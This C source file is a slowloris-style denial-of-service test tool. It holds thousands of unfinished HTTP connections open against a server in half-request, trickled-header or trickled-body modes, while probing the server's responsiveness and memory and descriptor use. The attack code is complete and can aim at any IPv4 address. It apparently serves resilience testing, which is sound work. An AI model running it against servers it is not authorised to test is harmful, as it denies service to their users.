/*
 * flood: what an attacker on one machine does to an HTTP server - thousands of
 * connections that never finish their request - while a legitimate client
 * keeps asking, and what the server's process looks like meanwhile.
 *
 *   flood --target 127.0.0.1:8080 --conns 2000 --mode half --from 127.0.0.2,127.0.0.3 \
 *         --duration 20 --probe /healthz --pid PID
 *
 * Attack connections (spread over the --from addresses, opened at most
 * --open-rate a second, every one the server closes opened again):
 *   half     a request line and one header, then nothing
 *   trickle  a request line, then one header byte a second, never the end
 *   body     complete headers of a POST with a 1 MB Content-Length (and --token
 *            as bearer), then one body byte a second
 * The probe (its own thread and connection each time, from --probe-from) sends
 * GET --probe every --probe-every ms and waits --probe-timeout ms at most for a
 * whole 200 answer; with --probe-post FILE every other probe POSTs FILE to
 * /api/v1/streams instead. Every 100 ms the server's RSS and descriptors are
 * read from /proc/--pid. At the end, one line of key=value figures:
 *
 *   probes=N failed=F p50_ms= p99_ms= max_ms= opened= closed_by_server= peak_open=
 *   rss_start_kb= rss_peak_kb= fds_peak=
 *
 * and the first failures, one per line, on standard error. Exit status 0, or 2
 * on a usage error.
 */
#include <arpa/inet.h>
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <getopt.h>
#include <netinet/in.h>
#include <netinet/tcp.h>
#include <poll.h>
#include <pthread.h>
#include <signal.h>
#include <stdatomic.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/epoll.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#define MAX_FROM 64
#define MAX_PROBES 1000000
#define MAX_POST (8u << 20)

enum mode { M_HALF, M_TRICKLE, M_BODY };

struct conn {
	int fd;
	bool connected;
	size_t sent;                 /* of the prefix */
};

static struct {
	struct sockaddr_in target;
	struct in_addr from[MAX_FROM];
	int nfrom;
	struct in_addr probe_from;
	int conns;
	enum mode mode;
	double duration;
	int open_rate;
	const char *probe;
	int probe_every_ms, probe_timeout_ms;
	char *post;
	size_t post_len;
	const char *token;
	int pid;
} opt;

static char prefix[1024];
static size_t prefix_len;
static atomic_bool done;
static double t_start;

static double now_s(void)
{
	struct timespec ts;

	clock_gettime(CLOCK_MONOTONIC, &ts);
	return (double)ts.tv_sec + (double)ts.tv_nsec / 1e9;
}

static int parse_addr(const char *s, struct in_addr *a)
{
	return inet_pton(AF_INET, s, a) == 1 ? 0 : -1;
}

static int parse_target(const char *s, struct sockaddr_in *sa)
{
	char host[64];
	const char *colon = strrchr(s, ':');
	long port;
	char *end;

	if (!colon || (size_t)(colon - s) >= sizeof(host))
		return -1;
	memcpy(host, s, (size_t)(colon - s));
	host[colon - s] = '\0';
	port = strtol(colon + 1, &end, 10);
	if (*end || port < 1 || port > 65535)
		return -1;
	memset(sa, 0, sizeof(*sa));
	sa->sin_family = AF_INET;
	sa->sin_port = htons((uint16_t)port);
	return parse_addr(host, &sa->sin_addr);
}

/* A socket bound to from, connecting (non-blocking when nb) to the target; -1 on failure. */
static int dial(struct in_addr from, bool nb)
{
	struct sockaddr_in src = { .sin_family = AF_INET, .sin_addr = from };
	int fd = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC | (nb ? SOCK_NONBLOCK : 0), 0);
	int one = 1;

	if (fd < 0)
		return -1;
	setsockopt(fd, IPPROTO_TCP, TCP_NODELAY, &one, sizeof(one));
	if (bind(fd, (struct sockaddr *)&src, sizeof(src)) < 0 ||
	    (connect(fd, (struct sockaddr *)&opt.target, sizeof(opt.target)) < 0 && errno != EINPROGRESS)) {
		close(fd);
		return -1;
	}
	return fd;
}

/* ---- the probe: a legitimate client ---- */

struct probes {
	double *ms;
	int n, failed;
	char first_failures[5][200];
};

static int set_timeout(int fd, int ms)
{
	struct timeval tv = { ms / 1000, (ms % 1000) * 1000 };

	return setsockopt(fd, SOL_SOCKET, SO_RCVTIMEO, &tv, sizeof(tv)) |
	       setsockopt(fd, SOL_SOCKET, SO_SNDTIMEO, &tv, sizeof(tv));
}

/* One request; 0 when answered 200 in time, else -1 with why. */
static int probe_once(bool post, char *why, size_t whylen)
{
	char req[1024], resp[4096];
	size_t got = 0;
	int fd, n, status = 0;
	double deadline = now_s() + opt.probe_timeout_ms / 1000.0;
	struct pollfd pfd;

	fd = dial(opt.probe_from, true);
	if (fd < 0) {
		snprintf(why, whylen, "connect: %s", strerror(errno));
		return -1;
	}
	pfd = (struct pollfd){ fd, POLLOUT, 0 };
	if (poll(&pfd, 1, opt.probe_timeout_ms) != 1) {
		snprintf(why, whylen, "connect: no answer within %d ms", opt.probe_timeout_ms);
		close(fd);
		return -1;
	}
	fcntl(fd, F_SETFL, fcntl(fd, F_GETFL) & ~O_NONBLOCK);
	set_timeout(fd, opt.probe_timeout_ms);
	if (post)
		n = snprintf(req, sizeof(req), "POST /api/v1/streams HTTP/1.1\r\nHost: flood\r\nConnection: close\r\n"
			     "Authorization: Bearer %s\r\nContent-Type: application/json\r\nContent-Length: %zu\r\n\r\n",
			     opt.token ? opt.token : "", opt.post_len);
	else
		n = snprintf(req, sizeof(req), "GET %s HTTP/1.1\r\nHost: flood\r\nConnection: close\r\n\r\n", opt.probe);
	if (send(fd, req, (size_t)n, MSG_NOSIGNAL) != n ||
	    (post && send(fd, opt.post, opt.post_len, MSG_NOSIGNAL) != (ssize_t)opt.post_len)) {
		snprintf(why, whylen, "send: %s", strerror(errno));
		close(fd);
		return -1;
	}
	for (;;) {
		ssize_t r;

		if (now_s() > deadline) {
			snprintf(why, whylen, "no whole answer within %d ms", opt.probe_timeout_ms);
			close(fd);
			return -1;
		}
		r = recv(fd, resp + got, got < sizeof(resp) - 1 ? sizeof(resp) - 1 - got : 0, 0);
		if (r < 0 && errno == EINTR)
			continue;
		if (r < 0) {
			if (errno == EAGAIN || errno == EWOULDBLOCK)
				snprintf(why, whylen, "no whole answer within %d ms", opt.probe_timeout_ms);
			else
				snprintf(why, whylen, "receive: %s", strerror(errno));
			close(fd);
			return -1;
		}
		if (r == 0)
			break;
		got += (size_t)r;
		if (got >= sizeof(resp) - 1) {
			char sink[4096];   /* the status line is in; drain the rest */
			while ((r = recv(fd, sink, sizeof(sink), 0)) > 0)
				;
			break;
		}
	}
	close(fd);
	resp[got] = '\0';
	if (sscanf(resp, "HTTP/1.%*d %d", &status) != 1 || status != 200) {
		snprintf(why, whylen, "%s answered %d: %.80s", post ? "POST" : opt.probe, status,
			 got > 12 ? resp + 9 : resp);
		for (char *p = why; *p; p++)
			if (*p == '\r' || *p == '\n')
				*p = ' ';
		return -1;
	}
	return 0;
}

static void *probe_main(void *arg)
{
	struct probes *p = arg;
	char why[160];
	int i = 0;

	while (!atomic_load(&done) && p->n < MAX_PROBES) {
		double t0 = now_s();
		bool post = opt.post && (i++ % 2);

		if (probe_once(post, why, sizeof(why)) < 0) {
			if (p->failed < 5)
				snprintf(p->first_failures[p->failed], sizeof(p->first_failures[0]), "%.1f s: %.120s",
					 t0 - t_start, why);
			p->failed++;
		}
		p->ms[p->n++] = (now_s() - t0) * 1000;
		{
			double left = opt.probe_every_ms / 1000.0 - (now_s() - t0);
			if (left > 0)
				usleep((useconds_t)(left * 1e6));
		}
	}
	return NULL;
}

static int cmp_double(const void *a, const void *b)
{
	double x = *(const double *)a, y = *(const double *)b;

	return x < y ? -1 : x > y;
}

/* ---- the server's process ---- */

static long proc_rss_kb(int pid)
{
	char path[64], line[256];
	long kb = -1;
	FILE *f;

	snprintf(path, sizeof(path), "/proc/%d/status", pid);
	if (!(f = fopen(path, "r")))
		return -1;
	while (fgets(line, sizeof(line), f))
		if (sscanf(line, "VmRSS: %ld kB", &kb) == 1)
			break;
	fclose(f);
	return kb;
}

static long proc_fds(int pid)
{
	char path[64];
	struct dirent *e;
	long n = 0;
	DIR *d;

	snprintf(path, sizeof(path), "/proc/%d/fd", pid);
	if (!(d = opendir(path)))
		return -1;
	while ((e = readdir(d)))
		n += e->d_name[0] != '.';
	closedir(d);
	return n;
}

/* A whole number in [lo, hi], else -1 (every limit below is at least 0). */
static long num(const char *s, long lo, long hi)
{
	char *end;
	long v;

	errno = 0;
	v = strtol(s, &end, 10);
	return errno || end == s || *end || v < lo || v > hi ? -1 : v;
}

/* ---- the attack ---- */

static void build_prefix(void)
{
	int n;

	switch (opt.mode) {
	case M_HALF:
		n = snprintf(prefix, sizeof(prefix), "GET / HTTP/1.1\r\nHost: flood\r\n");
		break;
	case M_TRICKLE:
		n = snprintf(prefix, sizeof(prefix), "GET / HTTP/1.1\r\nX-Trickle: ");
		break;
	default:
		n = snprintf(prefix, sizeof(prefix), "POST /api/v1/streams HTTP/1.1\r\nHost: flood\r\n"
			     "Authorization: Bearer %s\r\nContent-Type: application/json\r\nContent-Length: 1048576\r\n\r\n",
			     opt.token ? opt.token : "x");
		break;
	}
	prefix_len = (size_t)n;
}

static void usage(FILE *f)
{
	fputs("usage: flood --target ADDR:PORT [--conns N] [--mode half|trickle|body] [--from ADDR,...]\n"
	      "             [--duration S] [--open-rate N] [--probe PATH] [--probe-from ADDR]\n"
	      "             [--probe-every MS] [--probe-timeout MS] [--probe-post FILE] [--token T] [--pid PID]\n",
	      f);
}

static int read_file(const char *path)
{
	FILE *f = fopen(path, "rb");
	size_t n;

	if (!f)
		return -1;
	opt.post = malloc(MAX_POST);
	n = opt.post ? fread(opt.post, 1, MAX_POST, f) : 0;
	fclose(f);
	if (!opt.post || n == 0 || n == MAX_POST)
		return -1;
	opt.post_len = n;
	return 0;
}

int main(int argc, char **argv)
{
	static const struct option lo[] = {
		{ "target", required_argument, NULL, 't' }, { "conns", required_argument, NULL, 'n' },
		{ "mode", required_argument, NULL, 'm' }, { "from", required_argument, NULL, 'f' },
		{ "duration", required_argument, NULL, 'd' }, { "open-rate", required_argument, NULL, 'r' },
		{ "probe", required_argument, NULL, 'p' }, { "probe-from", required_argument, NULL, 'P' },
		{ "probe-every", required_argument, NULL, 'e' }, { "probe-timeout", required_argument, NULL, 'T' },
		{ "probe-post", required_argument, NULL, 'b' }, { "token", required_argument, NULL, 'k' },
		{ "pid", required_argument, NULL, 'i' }, { "help", no_argument, NULL, 'h' }, { NULL, 0, NULL, 0 },
	};
	struct probes pr = { 0 };
	struct conn *cs;
	struct epoll_event *evs;
	struct rlimit rl;
	pthread_t probe_thread;
	long rss0 = -1, rss_peak = -1, fds_peak = -1;
	uint64_t opened = 0, closed = 0;
	int live = 0, peak_live = 0, ep, o, next_from = 0;
	double t_end, t_tick = 0, t_sample = 0, budget = 0, t_last;
	bool target_ok = false;

	opt.conns = 1000;
	opt.duration = 10;
	opt.open_rate = 1000;
	opt.probe = "/healthz";
	opt.probe_every_ms = 100;
	opt.probe_timeout_ms = 2000;
	parse_addr("127.0.0.1", &opt.probe_from);
	while ((o = getopt_long(argc, argv, "h", lo, NULL)) != -1) {
		switch (o) {
		case 't': target_ok = parse_target(optarg, &opt.target) == 0; break;
		case 'n': opt.conns = (int)num(optarg, 0, 60000); break;
		case 'm':
			opt.mode = strcmp(optarg, "half") == 0 ? M_HALF : strcmp(optarg, "trickle") == 0 ? M_TRICKLE
				 : strcmp(optarg, "body") == 0 ? M_BODY : (enum mode)-1;
			break;
		case 'f': {
			char *save = NULL, *list = strdup(optarg);
			for (char *a = strtok_r(list, ",", &save); a && opt.nfrom < MAX_FROM; a = strtok_r(NULL, ",", &save))
				if (parse_addr(a, &opt.from[opt.nfrom++]) < 0) {
					fprintf(stderr, "flood: --from: %s is not an IPv4 address\n", a);
					return 2;
				}
			free(list);
			break;
		}
		case 'd': opt.duration = atof(optarg); break;
		case 'r': opt.open_rate = (int)num(optarg, 1, 1000000); break;
		case 'p': opt.probe = optarg; break;
		case 'P':
			if (parse_addr(optarg, &opt.probe_from) < 0) {
				fprintf(stderr, "flood: --probe-from: not an IPv4 address\n");
				return 2;
			}
			break;
		case 'e': opt.probe_every_ms = (int)num(optarg, 1, 600000); break;
		case 'T': opt.probe_timeout_ms = (int)num(optarg, 1, 600000); break;
		case 'b':
			if (read_file(optarg) < 0) {
				fprintf(stderr, "flood: --probe-post: cannot read %s (1 byte to 8 MB)\n", optarg);
				return 2;
			}
			break;
		case 'k': opt.token = optarg; break;
		case 'i': opt.pid = (int)num(optarg, 1, 1 << 30); break;
		case 'h': usage(stdout); return 0;
		default: usage(stderr); return 2;
		}
	}
	if (!target_ok || opt.conns < 0 || opt.conns > 60000 || (int)opt.mode < 0 || opt.duration <= 0 ||
	    opt.open_rate < 1 || opt.probe_every_ms < 1 || opt.probe_timeout_ms < 1 || opt.pid < 0) {
		usage(stderr);
		return 2;
	}
	if (!opt.nfrom)
		parse_addr("127.0.0.1", &opt.from[opt.nfrom++]);
	signal(SIGPIPE, SIG_IGN);
	getrlimit(RLIMIT_NOFILE, &rl);
	rl.rlim_cur = rl.rlim_max;
	setrlimit(RLIMIT_NOFILE, &rl);
	build_prefix();
	cs = calloc((size_t)opt.conns + 1, sizeof(*cs));
	evs = calloc(1024, sizeof(*evs));
	pr.ms = calloc(MAX_PROBES, sizeof(double));
	ep = epoll_create1(EPOLL_CLOEXEC);
	if (!cs || !evs || !pr.ms || ep < 0) {
		fprintf(stderr, "flood: out of memory\n");
		return 1;
	}
	for (int i = 0; i < opt.conns; i++)
		cs[i].fd = -1;
	if (opt.pid > 0)
		rss0 = rss_peak = proc_rss_kb(opt.pid);
	t_start = now_s();
	pthread_create(&probe_thread, NULL, probe_main, &pr);
	t_last = now_s();
	t_end = t_last + opt.duration;
	while (now_s() < t_end) {
		double now = now_s();
		int n;

		/* keep the attack's connections open, at most open_rate new ones a second */
		budget += (now - t_last) * opt.open_rate;
		if (budget > opt.open_rate / 10.0 + 1)
			budget = opt.open_rate / 10.0 + 1;
		t_last = now;
		for (int i = 0; i < opt.conns && budget >= 1; i++) {
			struct epoll_event ev;

			if (cs[i].fd >= 0)
				continue;
			budget -= 1;
			cs[i].fd = dial(opt.from[next_from++ % opt.nfrom], true);
			if (cs[i].fd < 0)
				continue;
			cs[i].connected = false;
			cs[i].sent = 0;
			ev.events = EPOLLIN | EPOLLOUT | EPOLLRDHUP;
			ev.data.u32 = (uint32_t)i;
			epoll_ctl(ep, EPOLL_CTL_ADD, cs[i].fd, &ev);
			opened++;
			live++;
		}
		if (live > peak_live)
			peak_live = live;
		n = epoll_wait(ep, evs, 1024, 20);
		for (int k = 0; k < n; k++) {
			struct conn *c = &cs[evs[k].data.u32];
			char sink[4096];

			if (c->fd < 0)
				continue;
			if (evs[k].events & (EPOLLIN | EPOLLRDHUP | EPOLLHUP | EPOLLERR)) {
				ssize_t r = recv(c->fd, sink, sizeof(sink), MSG_DONTWAIT);

				if (r <= 0 && !(r < 0 && errno == EAGAIN)) {
					epoll_ctl(ep, EPOLL_CTL_DEL, c->fd, NULL);
					close(c->fd);
					c->fd = -1;
					live--;
					closed++;
					continue;
				}
			}
			if ((evs[k].events & EPOLLOUT) && !c->connected) {
				struct epoll_event ev = { .events = EPOLLIN | EPOLLRDHUP, .data.u32 = evs[k].data.u32 };
				ssize_t w;

				c->connected = true;
				w = send(c->fd, prefix, prefix_len, MSG_NOSIGNAL | MSG_DONTWAIT);
				c->sent = w > 0 ? (size_t)w : 0;
				epoll_ctl(ep, EPOLL_CTL_MOD, c->fd, &ev);
			}
		}
		/* once a second: a byte on every trickling connection, the server's process sampled */
		if (opt.mode != M_HALF && now - t_tick >= 1) {
			t_tick = now;
			for (int i = 0; i < opt.conns; i++)
				if (cs[i].fd >= 0 && cs[i].connected)
					send(cs[i].fd, "a", 1, MSG_NOSIGNAL | MSG_DONTWAIT);
		}
		if (opt.pid > 0 && now - t_sample >= 0.1) {
			long rss = proc_rss_kb(opt.pid), fds = proc_fds(opt.pid);

			t_sample = now;
			if (rss > rss_peak)
				rss_peak = rss;
			if (fds > fds_peak)
				fds_peak = fds;
		}
	}
	atomic_store(&done, true);
	pthread_join(probe_thread, NULL);
	for (int i = 0; i < opt.conns; i++)
		if (cs[i].fd >= 0)
			close(cs[i].fd);
	qsort(pr.ms, (size_t)pr.n, sizeof(double), cmp_double);
	printf("probes=%d failed=%d p50_ms=%.1f p99_ms=%.1f max_ms=%.1f opened=%llu closed_by_server=%llu"
	       " peak_open=%d rss_start_kb=%ld rss_peak_kb=%ld fds_peak=%ld\n",
	       pr.n, pr.failed, pr.n ? pr.ms[pr.n / 2] : 0.0, pr.n ? pr.ms[(size_t)(pr.n * 0.99)] : 0.0,
	       pr.n ? pr.ms[pr.n - 1] : 0.0, (unsigned long long)opened, (unsigned long long)closed, peak_live,
	       rss0, rss_peak, fds_peak);
	for (int i = 0; i < pr.failed && i < 5; i++)
		fprintf(stderr, "flood: probe failed at %s\n", pr.first_failures[i]);
	free(cs);
	free(evs);
	free(pr.ms);
	free(opt.post);
	close(ep);
	return 0;
}
